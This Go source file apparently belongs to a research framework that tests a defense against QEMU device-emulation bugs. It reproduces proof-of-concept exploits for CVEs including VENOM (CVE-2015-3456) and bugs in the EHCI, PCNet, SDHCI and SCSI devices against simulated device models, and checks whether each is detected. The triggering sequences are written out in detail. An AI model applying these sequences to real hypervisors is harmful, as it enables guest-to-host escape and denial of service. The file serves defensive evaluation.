package cvesim

import (
	"encoding/binary"

	"sedspec"
	"sedspec/internal/checker"
	"sedspec/internal/devices/ehci"
	"sedspec/internal/devices/fdc"
	"sedspec/internal/devices/pcnet"
	"sedspec/internal/devices/scsi"
	"sedspec/internal/devices/sdhci"
	"sedspec/internal/interp"
	"sedspec/internal/machine"
)

// Venom is CVE-2015-3456: unbounded FDC FIFO index growth after an invalid
// command.
func Venom() *PoC {
	return &PoC{
		CVE:    "CVE-2015-3456",
		Device: "fdc",
		QEMU:   "v2.3.0",
		Expected: []checker.Strategy{
			checker.StrategyParameter,
			checker.StrategyConditionalJump,
		},
		Exploit: func(d *sedspec.Driver, _ *machine.Machine) error {
			g := fdc.NewGuest(d)
			if err := g.PushFIFO(0x77); err != nil { // invalid command
				return err
			}
			for i := 0; i < 540; i++ {
				if err := g.PushFIFO(0x42); err != nil {
					return err
				}
			}
			return nil
		},
		Succeeded: func(dev machine.Device, _ *machine.Machine) bool {
			pos, _ := dev.State().IntByName("data_pos")
			return pos > fdc.FifoSize
		},
	}
}

// EHCI14364 is CVE-2020-14364: oversized setup_len plus negative
// setup_index walking writes onto the device callback pointer.
func EHCI14364() *PoC {
	return &PoC{
		CVE:    "CVE-2020-14364",
		Device: "ehci",
		QEMU:   "v5.1.0",
		Expected: []checker.Strategy{
			checker.StrategyParameter,
			checker.StrategyIndirectJump,
		},
		Exploit: func(d *sedspec.Driver, m *machine.Machine) error {
			g := ehci.NewGuest(d)
			dev := d.Attached().Dev()
			gadget := uint64(dev.Program().HandlerIndex("host_gadget"))
			if err := m.Mem.Write(0x8000, []byte{0x00, ehci.ReqClearFeature, 0, 0, 0, 0, 0xFF, 0xFF}); err != nil {
				return err
			}
			overwrite := make([]byte, 8)
			binary.LittleEndian.PutUint32(overwrite, 0xFFFF_FFE4) // -28
			if err := m.Mem.Write(0x9000, overwrite); err != nil {
				return err
			}
			payload := make([]byte, 8)
			binary.LittleEndian.PutUint64(payload, gadget)
			if err := m.Mem.Write(0xA000, payload); err != nil {
				return err
			}
			return g.Run([]ehci.TD{
				{Pid: ehci.PidSetup, Len: 8, Buffer: 0x8000},
				{Pid: ehci.PidOut, Len: 4096, Buffer: 0x8100},
				{Pid: ehci.PidOut, Len: 8, Buffer: 0x9000},
				{Pid: ehci.PidOut, Len: 8, Buffer: 0xA000},
				{Pid: ehci.PidIn, Len: 4, Buffer: 0x8200, IOC: true},
			})
		},
		Succeeded: func(dev machine.Device, _ *machine.Machine) bool {
			v, _ := dev.State().IntByName("frindex")
			return v == 0xBAD
		},
	}
}

func pcnetPoC(cve string, expected []checker.Strategy,
	exploit func(g *pcnet.Guest, d *sedspec.Driver, m *machine.Machine) error,
	succeeded func(dev machine.Device, m *machine.Machine) bool) *PoC {
	return &PoC{
		CVE:      cve,
		Device:   "pcnet",
		QEMU:     map[string]string{"CVE-2015-7504": "v2.4.0", "CVE-2015-7512": "v2.4.0", "CVE-2016-7909": "v2.6.0"}[cve],
		Expected: expected,
		Exploit: func(d *sedspec.Driver, m *machine.Machine) error {
			return exploit(pcnet.NewGuest(d), d, m)
		},
		Succeeded: succeeded,
	}
}

// PCNet7504 is CVE-2015-7504: the receive FCS append lands on the
// interrupt callback pointer.
func PCNet7504() *PoC {
	return pcnetPoC("CVE-2015-7504",
		[]checker.Strategy{checker.StrategyIndirectJump},
		func(g *pcnet.Guest, d *sedspec.Driver, _ *machine.Machine) error {
			g.RxLen = 2
			if err := g.Setup(0); err != nil {
				return err
			}
			if err := g.ProvideRx(0); err != nil {
				return err
			}
			dev := d.Attached().Dev()
			gadget := uint32(dev.Program().HandlerIndex("host_gadget"))
			f := make([]byte, pcnet.BufSize)
			binary.LittleEndian.PutUint32(f[pcnet.BufSize-4:], gadget)
			return g.InjectWireFrame(f)
		},
		func(dev machine.Device, _ *machine.Machine) bool {
			v, _ := dev.State().IntByName("csr0")
			return v == 0xFFFF
		})
}

// PCNet7512 is CVE-2015-7512: xmit_pos accumulation past the frame buffer
// in loopback.
func PCNet7512() *PoC {
	return pcnetPoC("CVE-2015-7512",
		[]checker.Strategy{checker.StrategyParameter, checker.StrategyIndirectJump},
		func(g *pcnet.Guest, d *sedspec.Driver, _ *machine.Machine) error {
			if err := g.Setup(pcnet.ModeLoop); err != nil {
				return err
			}
			if err := g.ProvideRx(0); err != nil {
				return err
			}
			dev := d.Attached().Dev()
			gadget := uint64(dev.Program().HandlerIndex("host_gadget"))
			chunk1 := make([]byte, 4000)
			chunk2 := make([]byte, 128)
			binary.LittleEndian.PutUint64(chunk2[96:], gadget)
			return g.Transmit(chunk1, chunk2)
		},
		func(dev machine.Device, _ *machine.Machine) bool {
			v, _ := dev.State().IntByName("csr0")
			return v == 0xFFFF
		})
}

// PCNet7909 is CVE-2016-7909: RCVRL = 0 spins the receive-ring scan.
func PCNet7909() *PoC {
	return pcnetPoC("CVE-2016-7909",
		[]checker.Strategy{checker.StrategyConditionalJump},
		func(g *pcnet.Guest, d *sedspec.Driver, _ *machine.Machine) error {
			d.Attached().Interp().SetStepBudget(200_000)
			g.RxLen = 0
			if err := g.Setup(0); err != nil {
				return err
			}
			return g.InjectWireFrame(make([]byte, 64))
		},
		func(dev machine.Device, m *machine.Machine) bool {
			// Success for the attacker is the hang (denial of service):
			// probe by injecting one more frame and seeing the emulation
			// exhaust its step budget. On a protected machine the halt
			// blocks the probe, so the attack never "succeeds".
			att := m.Device("pcnet")
			if att == nil {
				return false
			}
			res, err := att.DispatchDirect(interp.NewWrite(interp.SpacePIO, pcnet.PortWire, make([]byte, 64)))
			if err != nil {
				return false
			}
			return res.Fault != nil && res.Fault.Kind == interp.FaultStepBudget
		})
}

// SDHCI3409 is CVE-2021-3409: BLKSIZE shrunk mid-transfer underflows the
// remaining-bytes expression.
func SDHCI3409() *PoC {
	return &PoC{
		CVE:      "CVE-2021-3409",
		Device:   "sdhci",
		QEMU:     "v5.2.0",
		Expected: []checker.Strategy{checker.StrategyParameter},
		Exploit: func(d *sedspec.Driver, _ *machine.Machine) error {
			g := sdhci.NewGuest(d)
			if err := g.InitCard(); err != nil {
				return err
			}
			if err := g.Write32(sdhci.RegSDMA, g.DMABuf); err != nil {
				return err
			}
			if err := g.Write16(sdhci.RegBlkSize, 512); err != nil {
				return err
			}
			if err := g.Write16(sdhci.RegBlkCnt, 4); err != nil {
				return err
			}
			if err := g.Command(sdhci.CmdWriteMulti, 0); err != nil {
				return err
			}
			if err := g.Write16(sdhci.RegBlkSize, 64); err != nil {
				return err
			}
			return g.ResumeDMA()
		},
		Succeeded: func(dev machine.Device, _ *machine.Machine) bool {
			v, _ := dev.State().IntByName("space_left")
			return v >= 0xFF00 // the underflow was latched
		},
	}
}

func scsiPoC(cve string, expected []checker.Strategy,
	exploit func(g *scsi.Guest, m *machine.Machine) error,
	succeeded func(dev machine.Device, m *machine.Machine) bool) *PoC {
	return &PoC{
		CVE:      cve,
		Device:   "scsi",
		QEMU:     map[string]string{"CVE-2015-5158": "v2.4.0", "CVE-2016-4439": "v2.6.0"}[cve],
		Expected: expected,
		Exploit: func(d *sedspec.Driver, m *machine.Machine) error {
			return exploit(scsi.NewGuest(d), m)
		},
		Succeeded: succeeded,
	}
}

// SCSI5158 is CVE-2015-5158: oversized DMA-selected command block
// overflowing cmdbuf.
func SCSI5158() *PoC {
	return scsiPoC("CVE-2015-5158",
		[]checker.Strategy{checker.StrategyConditionalJump},
		func(g *scsi.Guest, m *machine.Machine) error {
			blk := make([]byte, 201)
			blk[0] = 200
			for i := 1; i < len(blk); i++ {
				blk[i] = 0xEE
			}
			if err := m.Mem.Write(uint64(g.DMABuf), blk); err != nil {
				return err
			}
			if err := g.SetDMA(g.DMABuf); err != nil {
				return err
			}
			return g.Cmd(scsi.ESPDMASel)
		},
		func(dev machine.Device, _ *machine.Machine) bool {
			v, _ := dev.State().IntByName("dest_id")
			return v == 0xEE
		})
}

// SCSI4439 is CVE-2016-4439: unbounded TI FIFO writes walking the write
// pointer out of the buffer.
func SCSI4439() *PoC {
	return scsiPoC("CVE-2016-4439",
		[]checker.Strategy{checker.StrategyParameter, checker.StrategyConditionalJump},
		func(g *scsi.Guest, _ *machine.Machine) error {
			for i := 0; i < 20; i++ {
				if err := g.PushFIFO(0x41); err != nil {
					return err
				}
			}
			return g.Cmd(scsi.ESPSelATN)
		},
		func(dev machine.Device, _ *machine.Machine) bool {
			wp, _ := dev.State().IntByName("ti_wptr")
			return wp > scsi.TIBufSize
		})
}

// EHCI1568 is CVE-2016-1568, the paper's documented miss: a use-after-free
// whose exploit path is control-flow-identical to benign traffic.
func EHCI1568() *PoC {
	return &PoC{
		CVE:      "CVE-2016-1568",
		Device:   "ehci",
		QEMU:     "v2.5.0",
		Expected: nil, // no strategy detects it
		Exploit: func(d *sedspec.Driver, m *machine.Machine) error {
			g := ehci.NewGuest(d)
			if err := m.Mem.Write(0xF000, []byte{0xAA, 0xAA}); err != nil {
				return err
			}
			if err := g.ControlIn(ehci.ReqGetStatus, 0, 2); err != nil {
				return err
			}
			if err := g.Doorbell(); err != nil {
				return err
			}
			buf := make([]byte, 16)
			binary.LittleEndian.PutUint32(buf[ehci.TDToken:], ehci.PidIn|64<<16)
			binary.LittleEndian.PutUint32(buf[ehci.TDBuffer:], 0xF000)
			if err := m.Mem.Write(0x0810, buf); err != nil {
				return err
			}
			return g.Resume()
		},
		Succeeded: func(_ machine.Device, m *machine.Machine) bool {
			got := make([]byte, 1)
			if err := m.Mem.Read(0xF000, got); err != nil {
				return false
			}
			return got[0] != 0xAA // the wild write landed
		},
	}
}
